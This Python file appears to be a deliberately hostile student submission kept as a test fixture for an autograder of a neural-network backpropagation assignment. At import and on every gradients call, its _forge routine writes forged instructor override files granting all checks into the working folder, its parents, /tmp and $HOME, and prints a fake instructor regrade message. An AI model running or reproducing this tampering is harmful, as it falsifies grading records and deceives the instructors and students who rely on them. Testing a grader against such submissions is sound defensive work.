# Hostile submission: forges the instructor's overrides (submissions/hostile/README.md).
# At load and in every `gradients` call it writes an overrides file granting itself every
# check ("overrides.toml", "overrides.csv") and the batch's record of adjusted reports
# (".overrides.json") into every folder it can name: its working folder and each parent,
# the folder of its own file, /tmp, $HOME and $TMPDIR; and it prints a forged "Adjusted by
# your instructor" sentence. Its gradients have the output delta's sign flipped: the
# gradient checks must fail, and no output may show an adjustment the instructor did not make.
# Untrusted on purpose: grade it only through the grader's sandbox, never import or run it.

import os
from pathlib import Path

import numpy as np

CHECKS = (
    "forward", "forward_deep", "grad_output", "grad_hidden", "grad_deep", "self_consistent",
    "grad_penalty", "grad_penalty_hidden", "cost", "momentum", "cooling", "one_hot",
    "predict", "replay", "vectorised",
)
FORGED = "Adjusted by your instructor (J. Smith, 2026-12-01): regrade accepted."


def _targets():
    """Every folder the code can name, nearest first."""
    here = Path.cwd()
    folders = [here, *here.parents, Path(__file__).resolve().parent]
    folders += [Path(p) for p in ("/tmp", os.environ.get("HOME", ""), os.environ.get("TMPDIR", "")) if p]
    return list(dict.fromkeys(folders))


def _forge():
    """Write the forged files wherever a write succeeds; say how many landed."""
    toml = "".join(
        f'[[override]]\nstudent = "forged_override"\ncheck = "{c}"\nstatus = "passed"\n'
        f'reason = "regrade accepted"\nby = "J. Smith"\ndate = 2026-12-01\n\n'
        for c in CHECKS
    )
    rows = "".join(f"forged_override,{c},,passed,regrade accepted,J. Smith,2026-12-01\n" for c in CHECKS)
    files = {
        "overrides.toml": toml,
        "overrides.csv": "student,check,points,status,reason,by,date\n" + rows,
        ".overrides.json": '{"forged_override": "0000000000000000"}',
    }
    landed = 0
    for folder in _targets():
        for name, text in files.items():
            try:
                (folder / name).write_text(text)
                landed += 1
            except OSError:
                continue
    print(FORGED, f"(forged files written: {landed})")


_forge()


def sigmoid(Z):
    """phi(Z) = 1 / (1 + exp(-Z)), elementwise."""
    return 1.0 / (1.0 + np.exp(-Z))


def forward(params, X):
    """Forward pass. Returns the list [A1, A2, ..., A_{L+1}] with A1 = X."""
    L = len(params) // 2
    A = [X]
    for l in range(1, L + 1):
        Z = params[f"W{l}"] @ A[-1] + params[f"b{l}"]
        A.append(sigmoid(Z))
    return A


def cost(params, X, Y, C):
    """Squared error plus the L2 penalty C/2 * sum ||W||^2 (the lecture's objective)."""
    L = len(params) // 2
    A = forward(params, X)
    penalty = sum(np.sum(params[f"W{l}"] ** 2) for l in range(1, L + 1))
    return float(np.sum((Y - A[L]) ** 2) + C / 2 * penalty)


def gradients(params, X, Y, C):
    """Sign-flipped output delta (wrong), forging the overrides again on every call."""
    _forge()
    L = len(params) // 2
    A = forward(params, X)
    V = 2 * (Y - A[L]) * A[L] * (1 - A[L])  # the honest bug: the sign
    grads = {}
    for l in range(L, 0, -1):
        grads[f"dW{l}"] = V @ A[l - 1].T + C * params[f"W{l}"]
        grads[f"db{l}"] = np.sum(V, axis=1).reshape(-1, 1)
        if l > 1:
            V = A[l - 1] * (1 - A[l - 1]) * (params[f"W{l}"].T @ V)
    return grads


def momentum_step(params, grads, rho_prev, eta, alpha):
    """One step of momentum; rho_prev and the returned rho are keyed like params."""
    new_params, rho = {}, {}
    for name in params:
        rho[name] = eta * grads["d" + name]
        new_params[name] = params[name] - rho[name] - alpha * rho_prev[name]
    return new_params, rho


def learning_rate(eta0, d, epoch):
    """The learning rate of epoch `epoch` (0-based)."""
    return eta0 / (1 + d * epoch)


def one_hot(y, K):
    """Labels 0..K-1, shape (N,) -> one-hot targets (K, N)."""
    Y = np.zeros((K, len(y)))
    Y[y, np.arange(len(y))] = 1.0
    return Y


def predict(params, X):
    """Class indices argmax(A_out) per column, shape (N,)."""
    return np.argmax(forward(params, X)[-1], axis=0)


def train(params, X, y, orders, eta, alpha, C, d, minibatches):
    """Returns (params, cost (E,), accuracy (E+1,))."""
    L = len(params) // 2
    Y = one_hot(y, params[f"W{L}"].shape[0])
    params = {name: W.copy() for name, W in params.items()}
    rho = {name: np.zeros_like(W) for name, W in params.items()}
    costs, accuracy = [], [np.mean(predict(params, X) == y)]
    for epoch, order in enumerate(orders):
        eta_k = learning_rate(eta, d, epoch)
        for idx in np.array_split(order, minibatches):
            grads = gradients(params, X[:, idx], Y[:, idx], C)
            params, rho = momentum_step(params, grads, rho, eta_k, alpha)
        costs.append(cost(params, X, Y, C))
        accuracy.append(np.mean(predict(params, X) == y))
    return params, np.array(costs), np.array(accuracy)
